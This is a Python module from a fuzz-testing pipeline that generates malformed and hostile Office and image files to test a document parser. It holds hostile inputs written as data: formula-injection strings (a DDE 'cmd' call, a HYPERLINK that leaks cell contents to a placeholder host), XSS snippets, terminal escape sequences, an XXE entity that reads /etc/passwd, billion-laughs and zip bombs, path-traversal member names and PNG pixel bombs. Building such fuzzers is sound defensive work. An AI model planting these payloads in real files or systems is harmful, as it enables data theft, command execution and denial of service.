"""Fuzz families beyond PDF: Word, Excel and image files, each one entry of `FAMILIES`.

A family says where its base files come from, which operations it mixes (with weights), how one
operation changes a file's bytes, and which operations leave a valid file (which must be read). The
PDF family is pipeline/fuzz/mutate.py as it was (its mutants of a given seed are unchanged); adding a
family (web pages, archives) is one more `Family(...)` entry here with its bases and operations.

Word and Excel files are ZIP containers: besides bytes flipped anywhere and truncation, mutants
flip bytes inside a member, break an XML part, drop a member, add a zip bomb (a member inflating to
300 MB, or one whose declared size lies), a member named with `../` (path traversal), XML attacks
(an external entity reading /etc/passwd, billion laughs), and hostile text: formula and script
payloads in every text of the lists (a valid file: it must be read), a control character reference
(not allowed in XML 1.0). The legacy .xls base gets byte-level damage. Image files (PNG, JPEG, a
two-frame TIFF rendered from a generated list) get byte flips, truncation, a pixel bomb (a PNG
declaring 30,000 × 30,000 pixels) and a TIFF of many blank frames. Every family also gets odd file
names: formula and script payloads and a terminal escape sequence (valid: must be read).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
import io
from pathlib import Path
import random
import re
import struct
import zipfile
import zlib

from pipeline.fuzz.mutate import Mutant

ROOT = Path(__file__).resolve().parent.parent.parent
FIXTURES = ROOT / "tests" / "fixtures"

FORMULAS = ('=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(1+1)")  # fmt: skip
SCRIPTS = ("<script>alert(1)</script>", "<svg onload=alert(1)>", "<img src=x onerror=alert(1)>",
           '<a href="javascript:alert(1)">x</a>')  # fmt: skip
NAMES = ("=1+1+cmd|' -C calc'!A0", "<svg onload=alert(1)>", "@SUM(1)", "\x1b]0;pwned\x07\x1b[2J", "+x-y")


@dataclass(frozen=True)
class Family:
    name: str
    bases: Callable[[Path], list[Path]]  # the base files (made into the given folder if need be)
    operations: dict[str, int]  # operation → weight in the mix
    apply: Callable[[str, bytes, random.Random], bytes]
    valid: tuple[str, ...]  # operations that leave a valid file: it must be read
    suffixes: dict[str, str] = field(default_factory=dict)  # operation → the suffix its mutants get


def family_mutant(family: Family, seed: int, index: int, bases: list[Path]) -> Mutant:
    """Mutant INDEX of SEED in FAMILY: depends only on these and the base files."""
    rng = random.Random(f"{family.name}/{seed}/{index}")
    base = bases[rng.randrange(len(bases))]
    op = rng.choices(list(family.operations), weights=list(family.operations.values()))[0]
    stem = f"m{index:04d}_{op}"
    suffix = family.suffixes.get(op, base.suffix)
    name = hostile_name(rng, stem, suffix) if op == "bad_name" else f"{stem}{suffix}".encode()
    return Mutant(index, op, base.name, name, family.apply(op, base.read_bytes(), rng))


def hostile_name(rng: random.Random, stem: str, suffix: str) -> bytes:
    return f"{stem}_{rng.choice(NAMES)}{suffix}".encode()


# --- Word and Excel (ZIP containers) -----------------------------------------------------------------

ZIP_OPS = {
    "flip_bytes": 10,
    "truncate": 8,
    "flip_member": 10,
    "break_xml": 10,
    "delete_member": 8,
    "payload": 12,
    "control_reference": 4,
    "xxe": 4,
    "billion_laughs": 4,
    "zip_bomb": 3,
    "lying_size": 4,
    "traversal_name": 3,
    "bad_name": 6,
}


def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(i, z.read(i)) for i in z.infolist()]


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info, body in members:
            name = info.filename if isinstance(info, zipfile.ZipInfo) else info
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _main_part(members: list) -> int:
    """Index of the part holding the list's text (document.xml, a sheet or the shared strings)."""
    names = [i.filename for i, _ in members]
    for wanted in ("word/document.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
        if wanted in names:
            return names.index(wanted)
    return max(range(len(members)), key=lambda k: len(members[k][1]))


_TEXT = re.compile(rb"(<(?:w:)?t(?: [^>]*)?>)([^<]{6,})(</(?:w:)?t>)")


def _escape(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()


def apply_zip(op: str, data: bytes, rng: random.Random) -> bytes:
    if op == "bad_name" or (op == "payload" and not data.startswith(b"PK\x03\x04")):
        return data  # a valid file under a hostile name (the .xls base: no text edited in BIFF)
    if op == "flip_bytes" or not data.startswith(b"PK\x03\x04"):  # the .xls base: bytes only
        if op == "truncate":
            return data[: int(len(data) * rng.uniform(0.05, 0.98))]
        out = bytearray(data)
        for _ in range(rng.randint(1, 16)):
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
        return bytes(out)
    if op == "truncate":
        return data[: int(len(data) * rng.uniform(0.05, 0.98))]
    members: list = _members(data)
    main = _main_part(members)
    info, body = members[main]
    if op == "flip_member":
        k = rng.randrange(len(members))
        flipped = bytearray(members[k][1])
        for _ in range(rng.randint(1, 8)):
            if flipped:
                flipped[rng.randrange(len(flipped))] ^= 1 << rng.randrange(8)
        members[k] = (members[k][0], bytes(flipped))
    elif op == "break_xml":
        a = rng.randrange(max(1, len(body)))
        members[main] = (info, body[:a] + body[a + rng.randint(1, 200) :])
    elif op == "delete_member":
        del members[rng.randrange(len(members))]
    elif op == "payload":  # every longer text (item names, duties, departments) with a payload
        payloads = [*FORMULAS, *SCRIPTS]

        def bad(m: re.Match) -> bytes:
            if "清单".encode() in m.group(2):  # a title: left as printed, so the list is still found
                return m.group(0)
            p = rng.choice(payloads)
            text = _escape(p) + m.group(2) if p[0] in "=+-@" else m.group(2) + _escape(p)
            return m.group(1) + text + m.group(3)

        for k, (i, b) in enumerate(members):
            if i.filename.endswith(".xml"):
                members[k] = (i, _TEXT.sub(bad, b))
    elif op == "control_reference":  # ESC and U+FFFF as character references: not allowed in XML 1.0
        members[main] = (
            info,
            _TEXT.sub(
                lambda m: m.group(1) + b"&#27;]0;x&#7;&#xFFFF;" + m.group(2) + m.group(3), body, count=3
            ),
        )
    elif op in ("xxe", "billion_laughs"):
        if op == "xxe":
            doctype = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            entity = b"&x;"
        else:
            levels = [b'<!ENTITY l0 "lol">'] + [
                b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
            ]
            doctype = b"<!DOCTYPE r [" + b"".join(levels) + b"]>"
            entity = b"&l9;"
        head, sep, rest = body.partition(b"?>")
        body = head + sep + doctype + rest if sep else doctype + body
        members[main] = (info, _TEXT.sub(lambda m: m.group(1) + entity + m.group(3), body, count=1))
    elif op == "zip_bomb":
        members.append(("customXml/item9.xml", b"<a>" + b"\0" * (300 << 20) + b"</a>"))
    elif op == "traversal_name":
        members.append(("../../../../tmp/evil.xml", b"<evil/>"))
    elif op == "lying_size":
        out = bytearray(_zip(members))
        central = out.find(b"PK\x01\x02")
        local = 0
        for _ in range(rng.randrange(len(members))):  # a member at random: its declared size made small
            central = out.find(b"PK\x01\x02", central + 4)
        local = struct.unpack_from("<I", out, central + 42)[0]
        for where in (central + 24, local + 22):
            struct.pack_into("<I", out, where, rng.choice((0, 1, 100)))
        return bytes(out)
    return _zip(members)


def office_bases(folder: Path, suffixes: tuple[str, ...]) -> list[Path]:
    """The committed Word/Excel fixtures, and lists generated in the test fixtures' ways."""
    found = sorted(p for s in suffixes for p in (FIXTURES / "corpus" / "producers").rglob(f"*{s}"))
    found += sorted(p for s in suffixes for p in (FIXTURES / "office").glob(f"lists{s}"))
    folder.mkdir(parents=True, exist_ok=True)
    try:
        import sys

        sys.path.insert(0, str(ROOT))
        from tests.office_fixtures import lists_for, write_docx, write_xlsx
    except ImportError:  # python-docx missing: the committed files only
        return found
    for identity in ("liangjiadun", "hongqi"):
        ident, lists = lists_for(identity, n=6)
        if ".docx" in suffixes:
            target = folder / f"{identity}.docx"
            if not target.exists():
                write_docx(target, ident, lists, numbering=identity == "hongqi")
            found.append(target)
        if ".xlsx" in suffixes:
            target = folder / f"{identity}.xlsx"
            if not target.exists():
                write_xlsx(target, ident, lists, one_sheet=identity == "hongqi")
            found.append(target)
    return found


# --- images -------------------------------------------------------------------------------------------

IMAGE_OPS = {"flip_bytes": 10, "truncate": 10, "pixel_bomb": 6, "many_frames": 1, "bad_name": 2}


def image_bases(folder: Path) -> list[Path]:
    """A page of a generated list rendered as a scan would be stored: PNG, JPEG, two-frame TIFF."""
    import pypdfium2 as pdfium

    folder.mkdir(parents=True, exist_ok=True)
    source = FIXTURES / "layouts" / "one_file_per_list" / "fujian3_jiben.pdf"
    made = [folder / "scan.png", folder / "scan.jpg", folder / "scan.tif"]
    if all(p.exists() for p in made):
        return made
    pdf = pdfium.PdfDocument(source)
    pages = [pdf[i].render(scale=200 / 72).to_pil().convert("L") for i in range(min(2, len(pdf)))]
    pdf.close()
    pages[0].save(made[0], dpi=(200, 200))
    pages[0].save(made[1], quality=85, dpi=(200, 200))
    pages[0].save(made[2], save_all=True, append_images=pages[1:], compression="tiff_deflate", dpi=(200, 200))
    return made


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def apply_image(op: str, data: bytes, rng: random.Random) -> bytes:
    if op == "truncate":
        return data[: int(len(data) * rng.uniform(0.05, 0.98))]
    if op == "pixel_bomb":  # a few bytes of PNG declaring 30,000 × 30,000 pixels
        side = rng.choice((9000, 12000, 30000))
        ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        row = zlib.compress(b"\0" * (side // 8 + 1) * 64)  # a few rows: the rest is missing
        return b"\x89PNG\r\n\x1a\n" + ihdr + _png_chunk(b"IDAT", row) + _png_chunk(b"IEND", b"")
    if op == "many_frames":
        from PIL import Image

        blank = Image.new("1", (800, 1100), 1)
        tiff = io.BytesIO()
        blank.save(tiff, format="TIFF", save_all=True, append_images=[blank] * rng.randint(20, 40),
                   compression="group4")  # fmt: skip
        return tiff.getvalue()
    out = bytearray(data)  # flip_bytes (bad_name keeps the bytes)
    if op == "flip_bytes":
        for _ in range(rng.randint(1, 16)):
            out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


FAMILIES: dict[str, Family] = {
    "word": Family(
        "word", lambda f: office_bases(f, (".docx",)), ZIP_OPS, apply_zip, ("payload", "bad_name")
    ),
    "excel": Family(
        "excel", lambda f: office_bases(f, (".xlsx", ".xls")), ZIP_OPS, apply_zip, ("payload", "bad_name")
    ),
    "image": Family(
        "image",
        image_bases,
        IMAGE_OPS,
        apply_image,
        ("bad_name",),
        {"pixel_bomb": ".png", "many_frames": ".tif"},
    ),
}
